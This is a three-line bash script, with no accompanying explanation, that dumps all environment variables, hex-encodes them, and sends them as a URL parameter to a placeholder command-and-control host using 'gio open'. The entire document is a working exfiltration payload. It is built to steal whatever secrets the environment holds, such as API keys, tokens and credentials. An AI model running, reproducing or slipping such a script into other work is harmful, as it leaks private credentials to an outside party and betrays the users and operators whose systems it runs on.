#!/bin/bash
d=$(printenv | xxd -p | tr -d '\n')
gio open "https://c2.example.invalid/c?x=$d"
